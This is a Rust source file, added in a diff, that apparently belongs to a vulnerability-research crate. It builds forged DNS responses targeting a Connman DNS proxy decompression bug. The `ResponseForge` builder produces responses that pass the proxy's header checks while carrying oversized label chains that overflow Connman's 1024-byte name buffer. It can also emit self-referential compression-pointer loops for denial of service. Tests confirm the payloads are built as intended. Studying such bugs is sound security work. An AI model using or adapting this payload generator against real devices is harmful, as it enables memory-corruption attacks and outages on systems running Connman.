@@ -1,0 +1,332 @@
+//! Forged-response construction: the attacker side of the wire.
+//!
+//! A forged response must pass the proxy's *header* checks (matching
+//! transaction id, echoed question, QR bit, `NOERROR`) so that the
+//! vulnerable decompression routine is reached at all — the paper notes
+//! that Connman otherwise "dumps the packet as a bad response". Everything
+//! after the question section, however, is raw attacker-controlled bytes:
+//! the answer record's owner name is emitted as an arbitrary label chain
+//! that can exceed every RFC limit.
+//!
+//! ```
+//! use cml_dns::{forge::ResponseForge, Message, Name, Question, RecordType};
+//!
+//! # fn main() -> Result<(), cml_dns::DnsError> {
+//! let query = Message::query(7, Question::new(Name::parse("a.b")?, RecordType::A));
+//! let bytes = ResponseForge::answering(&query)
+//!     .with_payload_labels(vec![vec![0x41; 63]; 20])?
+//!     .build()?;
+//! // 20 * 63 = 1260 decompressed bytes: past Connman's 1024-byte buffer.
+//! assert!(bytes.len() > 1024);
+//! # Ok(())
+//! # }
+//! ```
+
+use std::net::Ipv4Addr;
+
+use crate::message::Message;
+use crate::name::MAX_LABEL_LEN;
+use crate::record::{RecordClass, RecordType};
+use crate::wire::WireWriter;
+use crate::DnsError;
+
+/// How the forged answer's owner name terminates.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum NameTermination {
+    /// A normal root byte (`0x00`) — the overflow vector used by all six
+    /// PoCs.
+    Root,
+    /// A compression pointer to the given message offset. Pointing at the
+    /// name's own start yields the classic decompression loop used for
+    /// denial-of-service probing.
+    Pointer(u16),
+}
+
+/// Builder for a header-plausible but malicious DNS response.
+#[derive(Debug, Clone)]
+pub struct ResponseForge {
+    id: u16,
+    question: Option<QuestionEcho>,
+    labels: Vec<Vec<u8>>,
+    termination: NameTermination,
+    rtype: RecordType,
+    ttl: u32,
+    rdata: Vec<u8>,
+    extra_answers_claimed: u16,
+}
+
+#[derive(Debug, Clone)]
+struct QuestionEcho {
+    wire: Vec<u8>,
+}
+
+impl ResponseForge {
+    /// Starts a forge that answers `query`, copying its transaction id and
+    /// echoing its question section verbatim.
+    pub fn answering(query: &Message) -> Self {
+        let mut w = WireWriter::new();
+        // The echoed question encodes names uncompressed: a one-question
+        // echo never benefits from compression, and it keeps offsets in
+        // the forged record independent of compression state.
+        for q in query.questions() {
+            q.qname().encode_uncompressed(&mut w).expect("unbounded writer");
+            w.write_u16(q.qtype().to_u16()).expect("unbounded writer");
+            w.write_u16(q.qclass().to_u16()).expect("unbounded writer");
+        }
+        ResponseForge {
+            id: query.id(),
+            question: Some(QuestionEcho { wire: w.into_bytes() }),
+            labels: Vec::new(),
+            termination: NameTermination::Root,
+            rtype: RecordType::A,
+            ttl: 120,
+            rdata: vec![10, 13, 37, 1],
+            extra_answers_claimed: 0,
+        }
+    }
+
+    /// Starts a forge for a raw transaction id with no echoed question
+    /// (used in tests that probe the proxy's header gate).
+    pub fn for_id(id: u16) -> Self {
+        ResponseForge {
+            id,
+            question: None,
+            labels: Vec::new(),
+            termination: NameTermination::Root,
+            rtype: RecordType::A,
+            ttl: 120,
+            rdata: vec![10, 13, 37, 1],
+            extra_answers_claimed: 0,
+        }
+    }
+
+    /// Sets the answer owner name's label chain to exactly `labels`.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`DnsError::EmptyLabel`] or [`DnsError::LabelTooLong`] if a
+    /// label violates the *wire-format* limits (those are enforced by the
+    /// length-byte encoding itself; everything else is permitted).
+    pub fn with_payload_labels(mut self, labels: Vec<Vec<u8>>) -> Result<Self, DnsError> {
+        for l in &labels {
+            if l.is_empty() {
+                return Err(DnsError::EmptyLabel);
+            }
+            if l.len() > MAX_LABEL_LEN {
+                return Err(DnsError::LabelTooLong(l.len()));
+            }
+        }
+        self.labels = labels;
+        Ok(self)
+    }
+
+    /// Sets the label chain by naively chunking `payload` into 63-byte
+    /// labels. The decompressed buffer then contains `payload` with a
+    /// length byte before every chunk — sufficient for crash probing, but
+    /// exploit chains use `cml-exploit`'s layout solver instead.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`DnsError::EmptyLabel`] if `payload` is empty.
+    pub fn with_chunked_payload(self, payload: &[u8]) -> Result<Self, DnsError> {
+        if payload.is_empty() {
+            return Err(DnsError::EmptyLabel);
+        }
+        let labels = payload.chunks(MAX_LABEL_LEN).map(<[u8]>::to_vec).collect();
+        self.with_payload_labels(labels)
+    }
+
+    /// Chooses how the malicious name terminates.
+    pub fn terminate(mut self, termination: NameTermination) -> Self {
+        self.termination = termination;
+        self
+    }
+
+    /// Sets the answer record type (default `A`; the paper also uses
+    /// `AAAA`).
+    pub fn record_type(mut self, rtype: RecordType) -> Self {
+        self.rtype = rtype;
+        if self.rtype == RecordType::Aaaa && self.rdata.len() == 4 {
+            self.rdata = vec![0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
+        }
+        self
+    }
+
+    /// Sets the answer TTL.
+    pub fn ttl(mut self, ttl: u32) -> Self {
+        self.ttl = ttl;
+        self
+    }
+
+    /// Sets the RDATA bytes verbatim (RDLENGTH follows automatically).
+    pub fn rdata(mut self, rdata: Vec<u8>) -> Self {
+        self.rdata = rdata;
+        self
+    }
+
+    /// Convenience: a plausible A-record address.
+    pub fn a_address(self, addr: Ipv4Addr) -> Self {
+        self.rdata(addr.octets().to_vec())
+    }
+
+    /// Inflates ANCOUNT beyond the records actually present (header-lying
+    /// responses for count-mismatch tests).
+    pub fn claim_extra_answers(mut self, extra: u16) -> Self {
+        self.extra_answers_claimed = extra;
+        self
+    }
+
+    /// Offset within the built message where the malicious answer name
+    /// starts — useful for constructing self-referential pointers.
+    pub fn answer_name_offset(&self) -> u16 {
+        let qlen: usize = self.question.as_ref().map_or(0, |q| q.wire.len());
+        (12 + qlen) as u16
+    }
+
+    /// Emits the forged response bytes.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`DnsError::MessageTooLarge`] if the result would exceed
+    /// [`crate::MAX_PROXY_MESSAGE`].
+    pub fn build(&self) -> Result<Vec<u8>, DnsError> {
+        let mut w = WireWriter::with_limit(crate::MAX_PROXY_MESSAGE);
+        // Header: response, recursion available, NOERROR.
+        w.write_u16(self.id)?;
+        w.write_u16(0x8180)?;
+        w.write_u16(if self.question.is_some() { 1 } else { 0 })?;
+        w.write_u16(1 + self.extra_answers_claimed)?;
+        w.write_u16(0)?;
+        w.write_u16(0)?;
+        if let Some(q) = &self.question {
+            w.write_bytes(&q.wire)?;
+        }
+        // The malicious answer record.
+        for label in &self.labels {
+            w.write_u8(label.len() as u8)?;
+            w.write_bytes(label)?;
+        }
+        match self.termination {
+            NameTermination::Root => w.write_u8(0)?,
+            NameTermination::Pointer(off) => w.write_u16(0xC000 | off)?,
+        }
+        w.write_u16(self.rtype.to_u16())?;
+        w.write_u16(RecordClass::In.to_u16())?;
+        w.write_u32(self.ttl)?;
+        w.write_u16(self.rdata.len() as u16)?;
+        w.write_bytes(&self.rdata)?;
+        Ok(w.into_bytes())
+    }
+
+    /// Total decompressed size the proxy will attempt to write into its
+    /// name buffer: one length byte per label plus the label bytes
+    /// (mirrors the vulnerable `get_name` accounting).
+    pub fn decompressed_len(&self) -> usize {
+        self.labels.iter().map(|l| l.len() + 1).sum()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::name::Name;
+    use crate::question::Question;
+    use crate::record::RecordType;
+
+    fn query() -> Message {
+        Message::query(
+            0x4242,
+            Question::new(Name::parse("time.example.com").unwrap(), RecordType::A),
+        )
+    }
+
+    #[test]
+    fn forged_header_passes_strict_header_decode() {
+        let bytes = ResponseForge::answering(&query())
+            .with_chunked_payload(&[0x41; 200])
+            .unwrap()
+            .build()
+            .unwrap();
+        let mut r = crate::WireReader::new(&bytes);
+        let h = crate::Header::decode(&mut r).unwrap();
+        assert_eq!(h.id, 0x4242);
+        assert!(h.response);
+        assert_eq!(h.qdcount, 1);
+        assert_eq!(h.ancount, 1);
+    }
+
+    #[test]
+    fn strict_decoder_rejects_oversized_forged_name() {
+        let bytes = ResponseForge::answering(&query())
+            .with_chunked_payload(&[0x41; 1300])
+            .unwrap()
+            .build()
+            .unwrap();
+        // The strict message decoder must refuse what the vulnerable proxy
+        // accepts: that asymmetry is the bug under study.
+        assert!(Message::decode(&bytes).is_err());
+    }
+
+    #[test]
+    fn small_forged_name_is_strictly_valid() {
+        let bytes = ResponseForge::answering(&query())
+            .with_payload_labels(vec![b"evil".to_vec(), b"example".to_vec()])
+            .unwrap()
+            .build()
+            .unwrap();
+        let m = Message::decode(&bytes).unwrap();
+        assert_eq!(m.answers().len(), 1);
+        assert_eq!(m.answers()[0].name().to_string(), "evil.example");
+    }
+
+    #[test]
+    fn label_limits_enforced_at_wire_level() {
+        assert!(matches!(
+            ResponseForge::for_id(1).with_payload_labels(vec![vec![0x41; 64]]),
+            Err(DnsError::LabelTooLong(64))
+        ));
+        assert!(matches!(
+            ResponseForge::for_id(1).with_payload_labels(vec![vec![]]),
+            Err(DnsError::EmptyLabel)
+        ));
+    }
+
+    #[test]
+    fn pointer_loop_termination() {
+        let forge = ResponseForge::answering(&query())
+            .with_payload_labels(vec![b"loop".to_vec()])
+            .unwrap();
+        let off = forge.answer_name_offset();
+        let bytes = forge.terminate(NameTermination::Pointer(off)).build().unwrap();
+        // The pointer targets the name's own start, so the strict decoder
+        // chases it in a loop until the hop cap trips.
+        assert!(matches!(Message::decode(&bytes), Err(DnsError::PointerLimit(_))));
+    }
+
+    #[test]
+    fn decompressed_len_counts_length_bytes() {
+        let forge = ResponseForge::for_id(0)
+            .with_payload_labels(vec![vec![0x41; 63], vec![0x42; 10]])
+            .unwrap();
+        assert_eq!(forge.decompressed_len(), 64 + 11);
+    }
+
+    #[test]
+    fn aaaa_gets_16_byte_default_rdata() {
+        let bytes = ResponseForge::answering(&query())
+            .with_payload_labels(vec![b"x".to_vec()])
+            .unwrap()
+            .record_type(RecordType::Aaaa)
+            .build()
+            .unwrap();
+        let m = Message::decode(&bytes).unwrap();
+        assert_eq!(m.answers()[0].rtype(), RecordType::Aaaa);
+    }
+
+    #[test]
+    fn build_respects_proxy_ceiling() {
+        let labels = vec![vec![0x41; 63]; 70]; // ~4.5 KiB
+        let forge = ResponseForge::for_id(9).with_payload_labels(labels).unwrap();
+        assert!(matches!(forge.build(), Err(DnsError::MessageTooLarge { .. })));
+    }
+}
